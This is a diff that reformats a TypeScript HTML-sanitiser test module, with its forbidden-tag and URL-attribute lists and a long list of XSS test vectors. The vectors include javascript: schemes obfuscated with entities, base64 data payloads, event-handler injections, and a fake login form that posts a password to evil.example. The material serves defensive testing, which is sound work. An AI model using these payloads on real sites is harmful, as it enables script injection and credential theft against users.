@@ -6,8 +6,45 @@ import * as cheerio from 'cheerio';
  * written here. `unsafeParts` checks rendered HTML the way a browser would parse it.
  */
 
-export const FORBIDDEN_TAGS = ['script', 'style', 'form', 'meta', 'link', 'base', 'object', 'embed', 'svg', 'animate', 'set', 'math', 'frame', 'frameset', 'template', 'button', 'textarea', 'select', 'applet', 'portal'];
-const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'poster', 'background', 'data', 'cite', 'srcset', 'srcdoc', 'ping', 'codebase', 'dynsrc', 'lowsrc'];
+export const FORBIDDEN_TAGS = [
+  'script',
+  'style',
+  'form',
+  'meta',
+  'link',
+  'base',
+  'object',
+  'embed',
+  'svg',
+  'animate',
+  'set',
+  'math',
+  'frame',
+  'frameset',
+  'template',
+  'button',
+  'textarea',
+  'select',
+  'applet',
+  'portal',
+];
+const URL_ATTRIBUTES = [
+  'href',
+  'src',
+  'action',
+  'formaction',
+  'xlink:href',
+  'poster',
+  'background',
+  'data',
+  'cite',
+  'srcset',
+  'srcdoc',
+  'ping',
+  'codebase',
+  'dynsrc',
+  'lowsrc',
+];
 
 /** Everything that could run script or leave the page, checked on the rendered HTML as a browser would parse it. */
 export function unsafeParts(html: string): string[] {
@@ -39,7 +76,10 @@ export const VECTORS: [string, string][] = [
   ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
   ['svg use data', '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>'],
   ['page-wide style', '<style>body { display: none } a[href^="https"] { background: url(https://evil.example/x) }</style>'],
-  ['form posting elsewhere', '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>'],
+  [
+    'form posting elsewhere',
+    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>',
+  ],
   ['formaction', '<button formaction="javascript:alert(1)">x</button><input type="submit" formaction="javascript:alert(2)">'],
   ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
   ['meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'],
@@ -52,13 +92,19 @@ export const VECTORS: [string, string][] = [
   ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
   ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
   ['iframe foreign host', '<iframe src="https://evil.example/"></iframe>'],
-  ['iframe allowed host with handler', '<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(1)" srcdoc="<b>x</b>"></iframe>'],
+  [
+    'iframe allowed host with handler',
+    '<iframe src="https://www.youtube-nocookie.com/embed/x" onload="alert(1)" srcdoc="<b>x</b>"></iframe>',
+  ],
   ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
   ['scheme with tab', '<a href="jav\tascript:alert(1)">x</a>'],
   ['scheme with newline entity', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
   ['entity-encoded scheme', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
   ['hex entity scheme', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'],
-  ['padded entity scheme', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
+  [
+    'padded entity scheme',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
+  ],
   ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
   ['leading space scheme', '<a href=" javascript:alert(1)">x</a>'],
   ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
@@ -135,7 +181,9 @@ export const VECTORS: [string, string][] = [
   ['frame', '<frame src="javascript:alert(1)">'],
   ['portal element', '<portal src="https://evil.example/"></portal>'],
   ['dialog open over page', '<dialog open style="position:fixed;inset:0">Log in</dialog>'],
-  ['svg animate values list', '<svg><a><animate attributeName="href" values="https://ok.example;javascript:alert(1)"/><text>x</text></a></svg>'],
+  [
+    'svg animate values list',
+    '<svg><a><animate attributeName="href" values="https://ok.example;javascript:alert(1)"/><text>x</text></a></svg>',
+  ],
   ['noembed break-out', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
 ];
-
